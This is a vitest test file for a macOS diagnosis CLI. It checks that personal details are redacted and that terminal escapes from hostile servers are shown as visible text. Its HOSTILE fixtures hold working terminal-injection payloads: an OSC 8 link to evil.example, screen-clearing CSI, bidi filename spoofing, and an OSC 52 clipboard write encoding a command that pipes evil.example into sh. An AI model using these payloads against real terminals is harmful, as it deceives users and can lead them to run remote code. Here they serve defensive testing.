/**
 * Adversarial replay, issue #15: what the terminal shows. (a) The human output goes through the
 * one redaction policy like `--json` (a person's names, e-mail, phone, home paths, VPN names,
 * this Mac's name), unless `--include-personal`. (b) Terminal escapes planted by hostile servers
 * (ANSI/CSI, OSC 8 links, OSC 52 clipboard writes, C1 CSI, CR overwrites, bidi overrides) never
 * reach the terminal raw — neither from a saved report (`--from-report`, no engine) nor through a
 * real run against a hostile status feed on 127.0.0.1.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { PassThrough } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../electron/cli/cli';
import { emitReport } from '../../electron/cli/emit';
import { runDiagnosis } from '../../electron/engine/run-diagnosis';
import { EN } from '../../shared/i18n';
import type { Report } from '../../shared/report';
import { testConfig } from '../engine/checks/clock/context';
import { cannedReport } from '../renderer/canned-reports';
import { startStatusFeedServer } from '../sim/status-feed-server';
import { testDeps } from '../sim/test-context';

/** Raw terminal controls (tab and line feed are layout): C0 (ESC, CR, BEL…), DEL, C1 (U+009B is CSI), bidi embeddings/overrides/isolates, line separators. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]/;
/** The output's own colour codes (only with --color) are SGR sequences; nothing else may start with ESC. */
const stripOwnColour = (s: string) => s.replace(/\u001b\[[0-9;]*m/g, '');

const HOSTILE = {
  osc8: '\u001b]8;;https://evil.example/\u0007click here\u001b]8;;\u0007',
  osc52: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  csi: '\u001b[2J\u001b[1;1H● GREEN  Everything works',
  c1: '\u009b31mred\u009b0m',
  cr: 'bad news\r✓ all fine',
  bidi: 'txt.\u202egnp.exe',
  isolate: '\u2067moc.elppa\u2069',
};

/** Personal data a person would not want in a forum post, each planted where the issue found it. */
const PERSONAL = {
  pac: 'file:///Users/jdoe/Library/proxy.pac',
  volumes: '/Volumes/Macintosh HD/Users/jdoe/Library/Keychains/login.keychain-db',
  labelEmail: 'jane.appleseed@icloud.com',
  phone: '+1 (408) 555-0123',
  vpn: "Jane Appleseed's VPN",
  machine: 'Zorblax-Studio.local',
};
const MUST_NOT_SHOW = ['jdoe', 'jane.appleseed', '555-0123', 'Appleseed', 'Zorblax'];

function hostileReport(): Report {
  const r = cannedReport('amber');
  const checks = r.checks.map((c) => {
    if (c.id === 'proxy')
      return {
        ...c,
        status: 'warn' as const,
        summary: `Proxy settings come from ${PERSONAL.pac} on ${PERSONAL.machine}. ${HOSTILE.osc8}`,
        data: { ...c.data, pac: { url: PERSONAL.pac } },
      };
    if (c.id === 'keychain') return { ...c, summary: `Item “${PERSONAL.labelEmail}” (${PERSONAL.phone}) in ${PERSONAL.volumes}. ${HOSTILE.osc52}` };
    if (c.id === 'vpn') return { ...c, summary: `${PERSONAL.vpn} is connected. ${HOSTILE.bidi} ${HOSTILE.isolate}` };
    if (c.id === 'apple-status') return { ...c, summary: `Apple reports an outage. “${HOSTILE.csi} ${HOSTILE.c1} ${HOSTILE.cr}”` };
    return c;
  });
  return { ...r, checks, verdict: { ...r.verdict, explanation: `${r.verdict.explanation} ${HOSTILE.csi}` } };
}

function io(): { out: () => string; io: Parameters<typeof main>[1] } {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  let text = '';
  stdout.on('data', (c) => {
    text += c;
  });
  stderr.resume();
  // Not a TTY: nothing is wrapped, so a phrase can be looked for whole (colour is forced per test).
  return { out: () => text, io: { stdout, stderr, isTTY: false, env: {} } };
}

let dir: string;
let saved: string;
beforeAll(() => {
  dir = mkdtempSync(path.join(tmpdir(), 'adv-cli-out-'));
  saved = path.join(dir, 'report.json');
  writeFileSync(saved, JSON.stringify(hostileReport()));
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const base = { json: false, configPath: null, only: null, color: true, includePersonal: false, allCards: true } as const;

describe('human output is redacted by the one policy', () => {
  it('hides the person, the paths and this Mac by default, and says where something was hidden', async () => {
    const t = io();
    await emitReport(hostileReport(), { ...base }, t.io, '0.0.0', EN, async () => EN);
    const text = t.out();
    expect(text).toContain('Proxy settings come from file:///Users/[user]/');
    for (const s of MUST_NOT_SHOW) expect(text).not.toContain(s);
    expect(text).toMatch(/\[email\]|\[redacted\]/);
    expect(text).toContain('[phone]');
  });

  it('--include-personal shows the person their own details', async () => {
    const t = io();
    const code = await main(['--from-report', saved, '--include-personal', '--no-color'], t.io);
    expect(code).toBe(1);
    // Each thing the default hides is on screen here: the redaction test above can fail.
    for (const s of Object.values(PERSONAL)) expect(t.out()).toContain(s);
  });

  it('a saved report rendered with --from-report is redacted too', async () => {
    const t = io();
    await main(['--from-report', saved, '--all'], t.io);
    expect(t.out()).toContain('[user]');
    for (const s of MUST_NOT_SHOW) expect(t.out()).not.toContain(s);
  });
});

describe('terminal escapes from hostile text never reach the terminal raw', () => {
  it.each([['text'], ['json']])('--from-report in --format %s', async (format) => {
    const t = io();
    await main(['--from-report', saved, '--format', format, '--all', '--color'], t.io);
    const shown = stripOwnColour(t.out());
    expect(shown.length).toBeGreaterThan(20);
    expect(shown).not.toMatch(RAW_CONTROL);
    expect(shown).not.toContain('\u001b');
  });

  it('the escapes are shown as visible text, so support sees what the server sent', async () => {
    const t = io();
    await main(['--from-report', saved, '--all', '--no-color'], t.io);
    expect(t.out()).toContain('\\u001b]52;c;');
    expect(t.out()).toContain('\\u202e');
  });

  it('a hostile Apple System Status feed on 127.0.0.1: terminal text and JSON carry no raw escape', async () => {
    const message = `Users may be unable to sign in. ${Object.values(HOSTILE).join(' ')}`;
    const feed = await startStatusFeedServer({
      body: JSON.stringify({
        services: [
          {
            serviceName: 'Apple Account',
            events: [
              { statusType: 'Outage', eventStatus: 'ongoing', usersAffected: HOSTILE.osc8, epochStartDate: Date.now() - 60_000, epochEndDate: null, message },
            ],
          },
          // An HTML entity that decodes to ESC (&#27;) in a service name is the same attack.
          {
            serviceName: 'iCloud Account &#27;[2J&amp; Sign In',
            events: [{ statusType: 'Outage', eventStatus: 'ongoing', epochStartDate: Date.now() - 60_000, message: HOSTILE.c1 }],
          },
        ],
      }),
    });
    try {
      const report = await runDiagnosis({ config: testConfig({ statusFeedUrl: feed.url }), deps: testDeps(), only: ['apple-status'] });
      const status = report.checks[0]!;
      // The feed was read and judged (the attack reached the parser), not refused on its way in.
      expect(status.cause).toBe('apple.outage');
      // The engine escaped it already (the popover's defence); the CLI's own pass is the second layer.
      expect(status.summary).not.toMatch(RAW_CONTROL);
      expect(status.summary).toContain('\\u001b]8;;');
      const t = io();
      await emitReport(report, { ...base, color: false }, t.io, '0.0.0', EN, async () => EN);
      expect(t.out()).toContain('Apple reports');
      expect(t.out()).not.toMatch(RAW_CONTROL);
      const j = io();
      await emitReport(report, { ...base, format: 'json' }, j.io, '0.0.0', null, async () => EN);
      expect(j.out()).not.toMatch(RAW_CONTROL);
    } finally {
      await feed.close();
    }
  });
});
